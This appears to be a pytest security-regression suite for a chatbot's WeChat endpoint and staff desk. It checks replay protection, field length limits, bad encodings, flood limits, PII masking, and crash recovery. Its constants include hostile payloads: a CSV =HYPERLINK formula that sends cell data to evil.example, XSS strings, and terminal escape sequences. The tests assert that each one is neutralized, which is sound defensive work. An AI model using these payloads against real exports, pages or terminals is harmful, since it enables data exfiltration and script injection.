"""Fault injection: the attacks and accidents issue 12 found, replayed so they stay fixed, on both backends.

Seven defects (one test each, named after it) and the probes that passed then and must keep passing: killing
the WeChat endpoint with kill -9 in the middle of a stream and letting WeChat resend, one MsgId pushed three
times at once, staff racing for one claim.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import signal
import socket
import subprocess
import sys
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest
import sqlalchemy as sa

from bot.answering.kb import KnowledgeBase
from bot.answering.matcher import Matcher
from bot.channels.wechat import WeChatConfig, WeChatEndpoint
from bot.config import ROOT
from bot.desk.digest import export_csv
from bot.desk.neutralize import FORMULA_START, csv_cell, csv_uncell, markdown, terminal
from bot.desk.staff import Staff, StaffService
from bot.desk.staff_commands import card_text
from bot.dialog.core import Assistant
from bot.dialog.flood import FLOOD_REPLY, FloodLimit
from bot.models import Address, Incoming
from bot.reports import IsoWeek, build_report, render
from bot.store import SqlStore, make_engine
from bot.store.queue import TicketQueue
from bot.store.reports import ReportStore
from tests.conftest import BOT_TODAY, Clock, table_count
from tests.test_ticket_concurrency import AT, _run
from tests.test_tickets_cli import NUMBER, desk
from tests.ticket_workers import claim_one
from tests.wechat_harness import AES_KEY, APP_ID, TOKEN, FakeWeChat, LoopThread, endpoint_url

ESCALATING = "我们厂的锅炉年检证书到期了，要找哪个窗口"
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点击")锅炉年检证书补办'
SCRIPT = "<script>alert(1)</script>锅炉年检证书丢了<img src=x onerror=alert(1)>[点我](javascript:alert(1))"
ESCAPES = "\x1b[2J\x1b[31m锅炉年检证书丢了\x1b]0;owned\x07补办\r找谁"
PERSONAL = "我叫张三，电话13812345678，锅炉年检证书丢了补办找谁"


def ticket_of(assistant: Assistant, user: str, question: str) -> str:
    """Escalate `question` as a console user; the ticket number they are told."""
    address = Address("console", f"chat-{user}")
    replies = assistant.handle(Incoming(address, user, question, message_id=f"{user}-q"))
    if not any(r.ticket_number for r in replies):  # offered suggestions first
        replies = assistant.handle(Incoming(address, user, "转人工", message_id=f"{user}-h"))
    number = next((r.ticket_number for r in replies if r.ticket_number), None)
    assert number, [r.text for r in replies]
    return number


def staff_service(store: SqlStore, clock: Clock, kb: KnowledgeBase) -> StaffService:
    return StaffService(TicketQueue(store), clock=clock, kb=kb)


@pytest.fixture
def wechat_url(loop: LoopThread, assistant: Assistant) -> str:
    return endpoint_url(loop, WeChatEndpoint(WeChatConfig(token=TOKEN), assistant.handle, assistant.store))


@pytest.fixture
def follower(wechat_url: str) -> Iterator[FakeWeChat]:
    fake = FakeWeChat(wechat_url, openid="oVictim000000000000000000001")
    yield fake
    fake.close()


# ---- 1. WeChat signature replay --------------------------------------------------------------------------


def test_1_a_captured_query_string_cannot_be_replayed(follower: FakeWeChat, wechat_url: str, store: SqlStore) -> None:
    """A 2019 query string, or a fresh one reused with another body, cannot impersonate a follower."""
    follower.say(ESCALATING)
    assert NUMBER.search(follower.say("转人工").text)
    attacker = FakeWeChat(wechat_url, openid=follower.openid)
    try:
        captured = str(int(dt.datetime(2019, 5, 1, tzinfo=dt.UTC).timestamp()))
        replayed = attacker.post(attacker.xml("text", Content="查询工单"), timestamp=captured, nonce="captured")
        assert replayed.status == 403 and "锅炉" not in replayed.body
        assert attacker.verify().status_code == 200  # the URL check still works with a fresh timestamp

        now = str(int(time.time()))
        push = follower.xml("text", Content="你好")
        first = follower.post(push, timestamp=now, nonce="once")
        assert first.status == 200
        assert follower.post(push, timestamp=now, nonce="once").text == first.text, "WeChat's own retry"
        forged = attacker.post(attacker.xml("text", Content="查询工单"), timestamp=now, nonce="once")
        assert forged.status == 403 and "锅炉" not in forged.body
    finally:
        attacker.close()
    assert table_count_of(store, "tickets") == 1


def test_1_a_replay_is_refused_by_every_endpoint_process(
    loop: LoopThread, assistant: Assistant, kb: KnowledgeBase, matcher: Matcher, clock: Clock, db_url: str
) -> None:
    """Two endpoints on their own stores (two worker processes behind one URL) share one memory: the database."""
    engine = make_engine(db_url)
    other = Assistant(kb, matcher, SqlStore(engine), today=lambda: BOT_TODAY, clock=clock)
    config = WeChatConfig(token=TOKEN)
    one = endpoint_url(loop, WeChatEndpoint(config, assistant.handle, assistant.store))
    two = endpoint_url(loop, WeChatEndpoint(config, other.handle, other.store))
    victim = "oVictim000000000000000000001"
    follower, retrying, attacker = FakeWeChat(one, victim), FakeWeChat(two, victim), FakeWeChat(two, victim)
    try:
        now = str(int(time.time()))
        push = follower.xml("text", Content="你好")
        first = follower.post(push, timestamp=now, nonce="shared")
        assert first.status == 200
        forged = attacker.xml("text", Content="查询工单")
        assert attacker.post(forged, timestamp=now, nonce="shared").status == 403, "the other process knows it"
        assert retrying.post(push, timestamp=now, nonce="shared").text == first.text, "WeChat's retry, elsewhere"
        assert follower.post(forged, timestamp=now, nonce="shared").status == 403
    finally:
        for fake in (follower, retrying, attacker):
            fake.close()
        engine.dispose()


def test_1_safe_mode_takes_encrypted_pushes_only(loop: LoopThread, assistant: Assistant) -> None:
    config = WeChatConfig(token=TOKEN, aes_key=AES_KEY, app_id=APP_ID)
    url = endpoint_url(loop, WeChatEndpoint(config, assistant.handle, assistant.store))
    plain, safe = FakeWeChat(url), FakeWeChat(url, safe=True)
    try:
        assert plain.say("社保费能缓缴吗").status == 403
        assert safe.post(safe.xml("text", Content="社保"), msg_signature="0" * 40).status == 403
        assert safe.say("社保费能缓缴吗").status == 200
    finally:
        plain.close()
        safe.close()


# ---- 2. values longer than their columns -----------------------------------------------------------------


def test_2_the_longest_values_each_channel_allows_are_stored_alike(assistant: Assistant, store: SqlStore) -> None:
    """A 129-character Telegram name, and ids longer than any channel sends, on SQLite as on PostgreSQL."""
    name = "名" * 64 + " " + "姓" * 64
    telegram = Address("telegram", "8000000001")
    replies = assistant.handle(Incoming(telegram, "8000000001", "社保费能缓缴吗", message_id="1", user_name=name))
    assert replies and "繁忙" not in replies[0].text
    assert store.arrival(telegram, "8000000001", None)[1].name == name[:128]

    hostile = "x" * 300
    address = Address("console", hostile)
    first = assistant.handle(Incoming(address, hostile, ESCALATING, message_id="m" * 300))
    again = assistant.handle(Incoming(address, hostile, ESCALATING, message_id="m" * 300))
    assert [r.text for r in again] == [r.text for r in first], "a re-delivery still finds its first replies"
    assert assistant.handle(Incoming(address, hostile, "转人工", message_id="n" * 300))[0].ticket_number
    assert len(store.tickets_of("console", hostile)) == 1


def test_2_wechat_fields_no_push_carries_are_a_bad_request(wechat_url: str, store: SqlStore) -> None:
    cases = [("o" * 65, "1"), ("o" * 28, "9" * 129), ("o" * 28, "12ab"), ("oFoo<bar>", "1")]
    for openid, msg_id in cases:
        fake = FakeWeChat(wechat_url, openid=openid)
        xml = fake.xml("text", 1, Content="社保费能缓缴吗").replace(
            "[CDATA[1]]></MsgId>", f"[CDATA[{msg_id}]]></MsgId>"
        )
        assert fake.post(xml).status == 400, (len(openid), len(msg_id))
        fake.close()
    longest = FakeWeChat(wechat_url, openid="o" * 28)
    assert longest.say("社保费能缓缴吗", msg_id=2**64 - 1).status == 200
    longest.close()
    assert table_count_of(store, "messages") == 2


# ---- 3. bodies expat cannot read -------------------------------------------------------------------------


@pytest.mark.parametrize(
    "body",
    [
        '<?xml version="1.0" encoding="GBK"?><xml><FromUserName>oA</FromUserName><MsgType>text</MsgType>'
        "<Content>社保</Content></xml>".encode("gbk"),
        b'<?xml version="1.0" encoding="x-unknown"?><xml><MsgType>text</MsgType></xml>',
        b"\xff\xfe<\x00x\x00m\x00l\x00>\x00",
    ],
    ids=["gbk", "unknown-encoding", "utf16-garbage"],
)
def test_3_any_unreadable_body_is_a_bad_request(follower: FakeWeChat, body: bytes) -> None:
    reply = follower.post(body)
    assert reply.status == 400 and "Traceback" not in reply.body
    assert follower.say("社保费能缓缴吗").status == 200, "the endpoint keeps serving"


# ---- 4. CSV formula injection ----------------------------------------------------------------------------


def test_4_no_csv_cell_starts_a_formula(
    assistant: Assistant, store: SqlStore, clock: Clock, kb: KnowledgeBase, matcher: Matcher
) -> None:
    """The tickets export and the weekly report CSV, both made for Excel."""
    ticket_of(assistant, "u1", HYPERLINK)
    out = io.StringIO()
    export_csv(staff_service(store, clock, kb).export(Staff("cli", "张三")), out, clock())
    report = build_report(ReportStore(store.engine), kb, matcher, IsoWeek.parse("2020-W12"), BOT_TODAY, clock())
    weekly = render(report, "csv").data.decode("utf-8-sig")
    for text in (out.getvalue(), weekly):
        cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
        assert not [c for c in cells if c.startswith(FORMULA_START)]
        assert "'" + HYPERLINK in cells
    assert [csv_cell(c + "1") for c in FORMULA_START] == ["'" + c + "1" for c in FORMULA_START]
    assert csv_uncell(str(csv_cell("=1+1"))) == "=1+1" and csv_cell(-3) == -3


# ---- 5. HTML and terminal escapes reaching staff ---------------------------------------------------------


def test_5_user_text_is_inert_in_the_markdown_report(
    assistant: Assistant, store: SqlStore, clock: Clock, kb: KnowledgeBase, matcher: Matcher
) -> None:
    ticket_of(assistant, "u1", SCRIPT)
    report = build_report(ReportStore(store.engine), kb, matcher, IsoWeek.parse("2020-W12"), BOT_TODAY, clock())
    md = render(report, "md").data.decode("utf-8-sig")
    assert "锅炉年检证书丢了" in md
    assert "<script" not in md and "<img" not in md and "[点我](javascript" not in md
    assert markdown("<b>a_b</b>") == r"&lt;b&gt;a\_b&lt;/b&gt;"


def test_5_terminal_escapes_are_not_printed_to_staff(assistant: Assistant, db_url: str, tmp_path: Path) -> None:
    number = ticket_of(assistant, "u1", ESCAPES)
    listing = desk(db_url, "list", cwd=tmp_path)
    shown = desk(db_url, "show", number, cwd=tmp_path)
    assert listing.returncode == shown.returncode == 0
    for out in (listing.stdout, shown.stdout):
        assert "锅炉年检证书丢了" in out and "\x1b" not in out and "\x07" not in out and "\r" not in out
    assert terminal("a\x1b[31mb\tc\n\u202ed") == "a[31mb\tc\nd"


# ---- 6. per-user limit across workers and restarts -------------------------------------------------------


def test_6_one_limit_for_all_workers_and_restarts(
    kb: KnowledgeBase, matcher: Matcher, store: SqlStore, db_url: str, clock: Clock
) -> None:
    """Two workers on one database and a restarted third share one count; a flood opens no ticket."""
    engines = [make_engine(db_url) for _ in range(3)]
    try:
        workers = [
            Assistant(kb, matcher, SqlStore(e), today=lambda: BOT_TODAY, clock=clock, flood=FloodLimit(SqlStore(e), 3))
            for e in engines
        ]
        address = Address("wechat", "oFlood")
        texts = []
        for i in range(12):
            worker = workers[i % 2] if i < 8 else workers[2]
            replies = worker.handle(Incoming(address, "oFlood", f"{ESCALATING}{i}", message_id=str(i)))
            texts.append([r.text for r in replies])
        assert texts[3] == [FLOOD_REPLY] and texts[4:] == [[]] * 8
        assert all(t and t != [FLOOD_REPLY] for t in texts[:3])
        assert len(store.tickets_of("wechat", "oFlood")) <= 3
        clock.advance(seconds=61)
        assert workers[2].handle(Incoming(address, "oFlood", "社保费能缓缴吗", message_id="later"))[0].text
        assert workers[0].handle(Incoming(address, "oFlood", ESCALATING, message_id="0"))[0].text == texts[0][0]
    finally:
        for e in engines:
            e.dispose()


def test_6_the_limit_applies_to_ask_and_the_console(db_url: str, tmp_path: Path) -> None:
    def ask(text: str) -> str:
        env = {k: v for k, v in os.environ.items() if k in ("PATH", "HOME", "LANG")}
        env.update(DATABASE_URL=db_url, BOT_TODAY="2020-03-21", FLOOD_PER_MINUTE="2", PYTHONIOENCODING="utf-8")
        cmd = [sys.executable, str(ROOT / "run_bot.py"), "ask", text, "--user", "flooder"]
        return subprocess.run(cmd, env=env, cwd=tmp_path, capture_output=True, text=True, timeout=120).stdout

    answers = [ask(ESCALATING), ask("转人工"), ask("转人工"), ask("转人工")]
    assert FLOOD_REPLY not in answers[0] + answers[1]
    assert FLOOD_REPLY in answers[2] and FLOOD_REPLY not in answers[3]
    assert table_count(db_url, "tickets") == 1


# ---- 7. personal data in staff views ---------------------------------------------------------------------


def test_7_staff_views_mask_personal_data_and_the_handler_reveal_is_recorded(
    assistant: Assistant, store: SqlStore, clock: Clock, kb: KnowledgeBase
) -> None:
    number = ticket_of(assistant, "u1", PERSONAL)
    svc = staff_service(store, clock, kb)
    zhang, li = Staff("cli", "张三"), Staff("cli", "李四")
    (listed,) = svc.list_queue(zhang)
    exported = io.StringIO()
    export_csv(svc.export(zhang), exported, clock())
    card = card_text(TicketQueue(store).get(number), kb, clock())  # type: ignore[arg-type]
    for view in (listed.question, exported.getvalue(), card, svc.show(zhang, number).ticket.question):
        assert "13812345678" not in view and "张三" not in view and "138****5678" in view
    svc.claim(zhang, number)
    assert "13812345678" not in svc.show(li, number).ticket.question, "only the handler sees it whole"
    assert "13812345678" in svc.show(zhang, number).ticket.question
    events = TicketQueue(store).events(listed.id)
    assert [(e.actor, e.action) for e in events][-1] == ("张三", "查看个人信息")


# ---- the probes that passed: keep them passing -----------------------------------------------------------


def test_probe_one_msgid_pushed_three_times_at_once_is_answered_once(follower: FakeWeChat, store: SqlStore) -> None:
    follower.say(ESCALATING)
    with ThreadPoolExecutor(3) as pool:
        texts = {r.text for r in pool.map(lambda _: follower.say("转人工", msg_id=424242), range(3))}
    assert len(texts) == 1 and NUMBER.search(texts.pop())
    assert len(store.tickets_of("wechat", follower.openid)) == 1


@pytest.mark.slow
def test_probe_of_eight_staff_racing_for_one_claim_exactly_one_wins(store: SqlStore, db_url: str) -> None:
    number = ticket_of_store(store)
    outcomes = dict(_run(claim_one, [(db_url, number, f"staff{i}") for i in range(8)]))
    assert sorted(outcomes.values()) == ["lost"] * 7 + ["won"]


@pytest.mark.slow
def test_probe_kill_9_mid_stream_then_wechat_resends_everything(db_url: str, tmp_path: Path) -> None:
    """The endpoint is killed while answering a stream; WeChat resends every push to the restarted one."""
    pushes = [(f"oStream{i % 4:021d}", 880000 + i, ESCALATING if i % 3 == 0 else "社保费能缓缴吗") for i in range(24)]
    server = WeChatProcess(db_url, tmp_path)
    try:
        with ThreadPoolExecutor(4) as pool:
            sent = [pool.submit(server.push, *p) for p in pushes]
            while sum(f.done() for f in sent) < 6:
                time.sleep(0.01)
            server.kill()
            [f.exception() for f in sent]
        server.start()
        first = [server.push(*p) for p in pushes]
        again = [server.push(*p) for p in pushes]
    finally:
        server.stop()
    assert all(r == 200 for r, _ in first) and [t for _, t in again] == [t for _, t in first]
    engine = make_engine(db_url)
    try:
        with engine.connect() as conn:
            incoming = conn.execute(sa.text("SELECT count(*) FROM messages WHERE direction = 'in'")).scalar_one()
            tickets = conn.execute(sa.text("SELECT count(*), count(DISTINCT source_message_id) FROM tickets")).one()
    finally:
        engine.dispose()
    assert incoming == len(pushes), "each push recorded exactly once: none lost, none twice"
    assert tickets[0] == tickets[1], "no message opened a second ticket"


# ---- helpers ---------------------------------------------------------------------------------------------


def table_count_of(store: SqlStore, table: str) -> int:
    with store.engine.connect() as conn:
        return int(conn.execute(sa.text(f"SELECT count(*) FROM {table}")).scalar_one())


def ticket_of_store(store: SqlStore) -> str:
    from bot.store.base import NewTicket

    return store.open_ticket(NewTicket(Address("wechat", "c1"), "u1", "复工备案找谁", AT, "msg-1")).number


class WeChatProcess:
    """`run_bot.py` serving the WeChat endpoint (plain mode), started and killed like a real deployment."""

    def __init__(self, db_url: str, cwd: Path) -> None:
        with socket.socket() as s:
            s.bind(("127.0.0.1", 0))
            self.port = s.getsockname()[1]
        self.env = {
            **os.environ,
            "WECHAT_TOKEN": TOKEN,
            "WECHAT_PORT": str(self.port),
            "DATABASE_URL": db_url,
            "BOT_TODAY": "2020-03-21",
        }
        self.cwd = cwd
        self.proc: subprocess.Popen[bytes] | None = None
        self.start()

    def start(self) -> None:
        cmd = [sys.executable, str(ROOT / "run_bot.py")]
        self.proc = subprocess.Popen(cmd, env=self.env, cwd=self.cwd, stderr=subprocess.DEVNULL)
        for _ in range(600):
            with socket.socket() as probe:
                if probe.connect_ex(("127.0.0.1", self.port)) == 0:
                    return
            assert self.proc.poll() is None, "the endpoint did not start"
            time.sleep(0.05)
        raise AssertionError("the endpoint did not listen")

    def push(self, openid: str, msg_id: int, text: str) -> tuple[int, str]:
        fake = FakeWeChat(f"http://127.0.0.1:{self.port}/wechat", openid=openid)
        try:
            reply = fake.post(fake.xml("text", msg_id, Content=text, CreateTime="1584756000"))
            return reply.status, reply.text
        finally:
            fake.close()

    def kill(self) -> None:
        assert self.proc is not None
        self.proc.send_signal(signal.SIGKILL)
        self.proc.wait(30)

    def stop(self) -> None:
        if self.proc is not None and self.proc.poll() is None:
            self.proc.terminate()
            self.proc.wait(30)
